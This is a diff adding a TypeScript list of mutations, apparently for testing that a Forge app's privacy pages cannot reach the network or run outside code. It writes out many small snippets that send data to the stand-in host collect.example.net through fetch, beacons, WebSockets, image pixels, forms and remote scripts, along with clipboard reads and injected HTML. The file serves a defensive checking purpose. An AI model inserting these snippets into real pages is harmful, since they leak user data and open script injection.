@@ -1,0 +1,225 @@
+import { added, changed, type Mutation } from '../mutation';
+
+/** A file of the pages without elements, and a component. */
+const FILE = 'static/privacy/tone.ts';
+const COMPONENT = 'static/privacy/components/lozenge.tsx';
+const STYLE = 'static/privacy/styles/page.css';
+const HTML = 'static/privacy/index.html';
+const AWAY = "'https://collect.example.net'";
+
+const hidden = (name: string, code: string): Mutation => added(`${name}, on a page`, FILE, code);
+
+/** `fetch` and its kin in scripts of the pages. */
+const scripts: readonly Mutation[] = [
+  hidden('fetch', `export const a = (): unknown => fetch(${AWAY});`),
+  hidden('fetch of window', `export const a = (): unknown => window.fetch(${AWAY});`),
+  hidden('fetch of self, by name', `export const a = (): unknown => self['fetch'](${AWAY});`),
+  hidden(
+    'fetch by the view of the document',
+    `export const a = (): unknown => document.defaultView?.fetch(${AWAY});`,
+  ),
+  hidden(
+    'fetch by the owner of an element',
+    "export const a: unknown = document.querySelector('#app')?.ownerDocument;",
+  ),
+  hidden(
+    'fetch by an element under a made-up type',
+    "const found: unknown = document.querySelector('#app');\nexport const a = found as { ownerDocument: { defaultView: { fetch: (url: string) => void } } };",
+  ),
+  hidden(
+    'fetch by the document unpacked',
+    'const { defaultView: view } = document;\nexport const a: unknown = view;',
+  ),
+  hidden(
+    'fetch by a member whose name is made at run time',
+    "const name = ['default', 'View'].join('') as 'defaultView';\nexport const a: unknown = document[name];",
+  ),
+  hidden(
+    'fetch by the view of a click',
+    'export const a = (event: MouseEvent): unknown => event.view;',
+  ),
+  hidden('fetch by the constructor of a tone', "export const a: unknown = 'success'.constructor;"),
+  hidden('an XMLHttpRequest', 'export const a = new XMLHttpRequest();'),
+  hidden('a WebSocket', `export const a = new WebSocket(${AWAY});`),
+  hidden('an EventSource', `export const a = new EventSource(${AWAY});`),
+  hidden('a beacon', `export const a = navigator.sendBeacon(${AWAY});`),
+  hidden(
+    'a picture as a beacon',
+    `const pixel = new Image();\npixel.src = ${AWAY};\nexport const a = pixel;`,
+  ),
+  hidden('a new window', `export const a = open(${AWAY});`),
+  hidden('a new address', `export const a = (): void => {\n  location.href = ${AWAY};\n};`),
+  hidden(
+    'a new address of the document',
+    `export const a = (): void => {\n  document.location = ${AWAY};\n};`,
+  ),
+  hidden(
+    'a message to the page around',
+    "export const a = (): void => {\n  parent.postMessage('x', '*');\n};",
+  ),
+  hidden('a frame', "export const a = document.createElement('iframe');"),
+  hidden(
+    'code as a text in an element',
+    "export const a = (root: Element): void => {\n  root.innerHTML = '<img src=x>';\n};",
+  ),
+  hidden(
+    'code written into the document',
+    "export const a = (): void => {\n  document.write('<script>');\n};",
+  ),
+  hidden('a cookie', "export const a = (): void => {\n  document.cookie = 'seen=1';\n};"),
+  hidden('local storage', 'export const a: unknown = localStorage;'),
+  hidden('session storage of window', 'export const a: unknown = window.sessionStorage;'),
+  hidden('IndexedDB', 'export const a: unknown = indexedDB;'),
+  hidden('the cache of the browser', 'export const a: unknown = caches;'),
+  hidden('a channel to other pages', "export const a = new BroadcastChannel('x');"),
+  hidden('a peer', 'export const a = new RTCPeerConnection();'),
+  hidden('a service worker', "export const a = navigator.serviceWorker.register('x.js');"),
+  hidden('the bridge below @forge/bridge', "export const a: unknown = '__bridge' in globalThis;"),
+  hidden('console', "export const a = (): void => {\n  console.warn('x');\n};"),
+  hidden(
+    'Jira asked by the page itself',
+    "import { requestJira } from '@forge/bridge';\nexport const a = requestJira;",
+  ),
+  hidden(
+    'a remote',
+    "import { invokeRemote } from '@forge/bridge';\nexport const a = invokeRemote;",
+  ),
+  hidden(
+    'another page opened',
+    "import { router } from '@forge/bridge';\nexport const a = router.open;",
+  ),
+  hidden('Forge’s functions', "import { asApp } from '@forge/api';\nexport const a = asApp;"),
+  hidden('code of the functions', "export { callJira } from '../../src/platform/jira';"),
+  hidden(
+    'elements made by hand',
+    "import { h } from 'preact';\nexport const a = h('img', { src: 'x' });",
+  ),
+  hidden(
+    'a package that nobody listed',
+    "import { parse } from 'cheerio';\nexport const a = parse;",
+  ),
+  hidden('code from elsewhere', "import 'https://collect.example.net/x.js';"),
+];
+
+const inSpan = (name: string, to: string): Mutation =>
+  changed(name, COMPONENT, '<span class={`lozenge lozenge-${tone}`}>{text}</span>', to);
+
+const SAVE = 'static/privacy/save-file.ts';
+const COPY = 'static/privacy/copy-text.ts';
+
+/** What the few files may do that are allowed more than the rest. */
+const borders: readonly Mutation[] = [
+  changed(
+    'a file saved to an address elsewhere',
+    SAVE,
+    'link.href = address',
+    `link.href = ${AWAY}`,
+  ),
+  changed(
+    'a file saved to an address that changes',
+    SAVE,
+    'const address = URL.createObjectURL(new Blob([text], { type }));',
+    "let address = URL.createObjectURL(new Blob([text], { type }));\n  address = 'https://collect.example.net';",
+  ),
+  changed('a frame in the place of a link', SAVE, "createElement('a')", "createElement('iframe')"),
+  changed('the clipboard read', COPY, 'writeText(text)', 'readText()'),
+  changed(
+    'a beacon beside the clipboard',
+    COPY,
+    'clipboard.writeText(text)',
+    `sendBeacon(${AWAY}, text)`,
+  ),
+  changed(
+    'a position beside the clipboard',
+    COPY,
+    'await navigator.clipboard.writeText(text)',
+    'navigator.geolocation.getCurrentPosition(() => undefined)',
+  ),
+];
+
+/** Elements and attributes that load or send. */
+const elements: readonly Mutation[] = [
+  inSpan('a picture from elsewhere', '<img src="https://collect.example.net/x.png" alt={text} />'),
+  inSpan('a script element', '<script>{text}</script>'),
+  inSpan('a frame element', '<iframe title={text} />'),
+  inSpan('a form', '<form action="https://collect.example.net">{text}</form>'),
+  inSpan('an element of another name', '<object data={text} />'),
+  inSpan('a style on an element', '<span style="background: red">{text}</span>'),
+  inSpan('HTML as a text', '<span dangerouslySetInnerHTML={{ __html: text }} />'),
+  inSpan('a link to anywhere', '<a href="https://collect.example.net">{text}</a>'),
+  inSpan('a link made at run time', '<a href={`https://${text}`}>{text}</a>'),
+  inSpan('a link that reports', '<a href="#x" ping="https://collect.example.net">{text}</a>'),
+  inSpan('a link that runs code', '<a href="javascript:alert(1)">{text}</a>'),
+  inSpan('attributes that cannot be seen', '<span {...{ class: tone }}>{text}</span>'),
+  inSpan('a picture in a drawing', '<svg><image href="https://collect.example.net" /></svg>'),
+  inSpan('an object made to look like an element', '<span>{{ text }}</span>'),
+  inSpan('data shown as an element', "<span>{Object.fromEntries([['type', 'img']])}</span>"),
+  inSpan('a link that tells where it was', '<a href="https://www.atlassian.com/">{text}</a>'),
+  changed(
+    'an element whose name is made at run time',
+    COMPONENT,
+    'return <span class={`lozenge lozenge-${tone}`}>{text}</span>;',
+    'const Tag = `${tone}-x`;\n  return <Tag>{text}</Tag>;',
+  ),
+];
+
+/** Style sheets, index.html and the build. */
+const sheets: readonly Mutation[] = [
+  added(
+    'a background from elsewhere',
+    STYLE,
+    '.page { background: url(https://collect.example.net); }',
+  ),
+  added('a background of a sort', STYLE, ".page { background: image-set('x.png' 1x); }"),
+  added('a sheet from elsewhere', STYLE, '@import "https://collect.example.net/x.css";'),
+  added('a font from elsewhere in a sheet', STYLE, '@font-face { font-family: x; src: local(x); }'),
+  added(
+    'an address behind an escape',
+    STYLE,
+    '.page { background: \\75rl(//collect.example.net); }',
+  ),
+  added('a sheet that no rule reads', 'static/privacy/styles/more.scss', '.page { color: red; }'),
+  changed('a script in the page', HTML, '</head>', '<script>fetch("x")</script></head>'),
+  changed('a script from elsewhere', HTML, './main.tsx', 'https://collect.example.net/x.js'),
+  changed('a style in the page', HTML, '</head>', '<style>p { color: red }</style></head>'),
+  changed('a handler in the page', HTML, '<body>', '<body onload="fetch()">'),
+  changed(
+    'a connection ahead',
+    HTML,
+    '</head>',
+    '<link rel="preconnect" href="https://collect.example.net" /></head>',
+  ),
+  changed(
+    'a page that moves on',
+    HTML,
+    '</head>',
+    '<meta http-equiv="refresh" content="0" /></head>',
+  ),
+  changed('another base', HTML, '</head>', '<base href="https://collect.example.net" /></head>'),
+  changed('a plugin of the build', 'static/privacy/vite.config.mjs', 'plugins: [', 'plugins: [{},'),
+  changed(
+    'a text put in by the build',
+    'static/privacy/vite.config.mjs',
+    "base: './',",
+    "base: './',\n  define: { x: 'fetch()' },",
+  ),
+  changed(
+    'files that the build adds',
+    'static/privacy/vite.config.mjs',
+    'publicDir: false',
+    "publicDir: 'public'",
+  ),
+  changed(
+    'a sheet put in by the build',
+    'static/privacy/tokens.mjs',
+    '`:root { color-scheme',
+    '`@import url(x); :root { color-scheme',
+  ),
+];
+
+export const reachPagesMutations: readonly Mutation[] = [
+  ...scripts,
+  ...borders,
+  ...elements,
+  ...sheets,
+];
